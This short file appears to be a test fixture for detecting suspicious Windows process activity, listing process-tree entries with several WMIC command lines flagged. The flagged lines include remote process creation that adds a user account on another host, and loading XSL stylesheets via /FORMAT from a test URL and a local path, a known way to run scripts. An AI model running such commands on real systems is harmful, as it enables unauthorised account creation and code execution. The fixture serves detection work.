os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
102 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
+ 103 102 ana - C:\Windows\System32\wbem\WMIC.exe | wmic /node:srv1 process call create "net user /add a b"
+ 104 102 ana - C:\Windows\System32\wbem\WMIC.exe | wmic process call create "powershell -c calc"
+ 105 102 ana - C:\Windows\System32\wbem\WMIC.exe | wmic process list /FORMAT:"https://example.test/a.xsl"
+ 106 102 ana - C:\Windows\System32\wbem\WMIC.exe | wmic os get /format:C:\data\a.xsl
